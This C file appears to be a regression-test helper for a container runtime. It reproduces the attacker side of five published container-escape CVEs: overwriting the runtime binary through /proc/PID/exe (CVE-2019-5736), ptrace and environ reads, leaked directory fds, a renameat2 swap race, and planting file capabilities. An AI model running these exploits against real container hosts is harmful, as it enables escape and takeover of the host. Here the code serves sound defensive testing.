/* attack.c - the attacker's side of the published attacks on container
 * runtimes, for t/7200-cves.t: copied into a rootfs as /attack (or run on
 * the host for the racing part of an attack). Each command tries what the
 * exploit did and prints one line per outcome, for the test to grep:
 *
 *   attack exe-grab FIFO     CVE-2019-5736: catch a runtime process's
 *                            /proc/PID/exe (O_PATH), let it go on (opening
 *                            FIFO), then reopen it for writing once it has
 *                            exited, and write to it
 *   attack ptrace PID        CVE-2016-9962: attach to PID, open its exe,
 *                            read its fds and environ
 *   attack fds [PID]         CVE-2024-21626: the fds this process (or
 *                            PID) holds, and whether a directory among
 *                            them leads out of our root
 *   attack exchange A B MS   CVE-2021-30465: swap A and B with
 *                            renameat2(RENAME_EXCHANGE) for MS ms
 *   attack setfcap FILE      CVE-2022-29162: give FILE every inheritable
 *                            file capability and the effective bit
 */
#include <dirent.h>
#include <errno.h>
#include <stdbool.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <linux/capability.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static long long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000LL + ts.tv_nsec / 1000000;
}

static void nap(void)
{
	struct timespec ts = { 0, 1000000 };

	nanosleep(&ts, NULL);
}

/* Whether /proc/PID/cmdline holds WORD: what the attacker passed to the
 * runtime it made the container run. */
static bool cmdline_has(int pid, const char *word)
{
	char path[64], buf[4096];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
	if ((fd = open(path, O_RDONLY)) < 0)
		return false;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	for (ssize_t i = 0; i < n; i++)
		if (!buf[i])
			buf[i] = ' ';
	buf[n > 0 ? n : 0] = 0;
	return strstr(buf, word) != NULL;
}

/* The pid of a process other than us whose exe is a runtime: ocimin's
 * binary, a memfd copy of it, or whatever file runs with the "--log="
 * the container's "#!/proc/self/exe --log=FIFO" script gave it (a bind
 * mount no namespace holds reads as "/"). */
static int runtime_pid(char *target, size_t len)
{
	char path[64];
	struct dirent *de;
	int pid = 0;
	DIR *d = opendir("/proc");

	while (d && !pid && (de = readdir(d))) {
		int p = atoi(de->d_name);
		ssize_t n;

		if (p <= 0 || p == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%d/exe", p);
		n = readlink(path, target, len - 1);
		if (n <= 0)
			continue;
		target[n] = 0;
		if (strstr(target, "ocimin") || strstr(target, "memfd:") ||
		    cmdline_has(p, "--log="))
			pid = p;
	}
	if (d)
		closedir(d);
	return pid;
}

static int exe_grab(const char *fifo)
{
	char target[4096], path[64];
	long long end = now_ms() + 20000;
	int pid = 0, fd = -1, w, f;
	ssize_t n;

	while (fd < 0 && now_ms() < end) {
		pid = runtime_pid(target, sizeof(target));
		if (!pid) {
			nap();
			continue;
		}
		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		fd = open(path, O_PATH);
		if (fd < 0) {
			printf("open /proc/PID/exe of %s: %s\n", target, strerror(errno));
			return 1;
		}
	}
	if (fd < 0)
		return puts("no runtime process seen"), 1;
	printf("grabbed the exe of a runtime process: %s\n", target);
	fflush(stdout);
	/* lets the runtime go on and exit (it opened FIFO to write) */
	f = open(fifo, O_RDONLY | O_NONBLOCK);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	while ((w = open(path, O_WRONLY)) < 0 && errno == ETXTBSY && now_ms() < end)
		nap();
	if (w < 0)
		return printf("reopen it for writing: %s\n", strerror(errno)), 0;
	puts("reopened it for writing");
	n = write(w, "#!/bin/sh\necho pwned\n", 21);
	if (n < 0)
		printf("write to it: %s\n", strerror(errno));
	else
		printf("wrote %zd bytes to it\n", n);
	if (f >= 0)
		close(f);
	return 0;
}

/* What /proc/PID/fd gives: the targets of its fds, or why not. */
static const char *read_fds(int pid)
{
	static char err[128];
	char path[320], target[256];
	struct dirent *de;
	DIR *d;

	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	if (!(d = opendir(path)))
		return strerror(errno);
	snprintf(err, sizeof(err), "read");
	while ((de = readdir(d))) {
		if (de->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "/proc/%d/fd/%s", pid, de->d_name);
		if (readlink(path, target, sizeof(target)) < 0) {
			snprintf(err, sizeof(err), "%s", strerror(errno));
			break;
		}
	}
	closedir(d);
	return err;
}

static int try_ptrace(const char *arg)
{
	int pid = atoi(arg), fd;
	char path[64], buf[256];

	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0) {
		puts("ptrace: attached");
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	} else {
		printf("ptrace: %s\n", strerror(errno));
	}
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_PATH);
	printf("exe: %s\n", fd >= 0 ? "opened" : strerror(errno));
	snprintf(path, sizeof(path), "/proc/%d/environ", pid);
	fd = open(path, O_RDONLY);
	printf("environ: %s\n", fd >= 0 && read(fd, buf, sizeof(buf)) >= 0 ? "read" : strerror(errno));
	printf("fds: %s\n", read_fds(pid));
	return 0;
}

/* Climbs ".." from the directory fd to its top: the same as our "/", or
 * a directory out of our root. */
static const char *leads_out(int fd)
{
	struct stat a, b, root;
	int up;

	if (stat("/", &root) < 0 || fstat(fd, &a) < 0)
		return "?";
	fd = dup(fd);
	for (int i = 0; i < 256; i++) {
		up = openat(fd, "..", O_RDONLY | O_DIRECTORY);
		if (up < 0 || fstat(up, &b) < 0)
			break;
		close(fd);
		fd = up;
		if (a.st_dev == b.st_dev && a.st_ino == b.st_ino)
			break;
		a = b;
	}
	close(fd);
	return a.st_dev == root.st_dev && a.st_ino == root.st_ino ? "inside" : "OUTSIDE the root";
}

/* The fds of pid ("self"), reopened through /proc/PID/fd as an attacker
 * would, to see whether a directory among them leads out of our root. */
static int list_fds(const char *pid)
{
	char path[64], target[4096];
	struct dirent *de;
	struct stat st;
	DIR *d;
	bool self = !strcmp(pid, "self");

	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	if (!(d = opendir(path)))
		return printf("open %s: %s\n", path, strerror(errno)), 1;
	while ((de = readdir(d))) {
		int fd = atoi(de->d_name), f;
		ssize_t n;

		if (de->d_name[0] == '.' || (self && fd == dirfd(d)))
			continue;
		snprintf(path, sizeof(path), "/proc/%s/fd/%d", pid, fd);
		n = readlink(path, target, sizeof(target) - 1);
		target[n > 0 ? n : 0] = 0;
		f = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
		if (f >= 0 && fstat(f, &st) == 0 && S_ISDIR(st.st_mode))
			printf("fd %d: %s: directory, %s\n", fd, target, leads_out(f));
		else
			printf("fd %d: %s\n", fd, target);
		if (f >= 0)
			close(f);
	}
	closedir(d);
	return 0;
}

static int exchange(const char *a, const char *b, const char *ms)
{
	long long end = now_ms() + atoi(ms);
	long swaps = 0;

	while (now_ms() < end)
		for (int i = 0; i < 100; i++, swaps++)
			if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
				return printf("exchange %s %s: %s\n", a, b, strerror(errno)), 1;
	printf("%ld exchanges\n", swaps);
	return 0;
}

static int setfcap(const char *file)
{
	struct vfs_cap_data d = { .magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE };

	d.data[0].inheritable = d.data[1].inheritable = 0xffffffff;
	if (setxattr(file, "security.capability", &d, XATTR_CAPS_SZ_2, 0) < 0)
		return printf("setxattr %s: %s\n", file, strerror(errno)), 1;
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && !strcmp(argv[1], "exe-grab"))
		return exe_grab(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "ptrace"))
		return try_ptrace(argv[2]);
	if ((argc == 2 || argc == 3) && !strcmp(argv[1], "fds"))
		return list_fds(argc == 3 ? argv[2] : "self");
	if (argc == 5 && !strcmp(argv[1], "exchange"))
		return exchange(argv[2], argv[3], argv[4]);
	if (argc == 3 && !strcmp(argv[1], "setfcap"))
		return setfcap(argv[2]);
	fprintf(stderr, "usage: attack exe-grab FIFO | ptrace PID | fds [PID] | exchange A B MS | setfcap FILE\n");
	return 2;
}
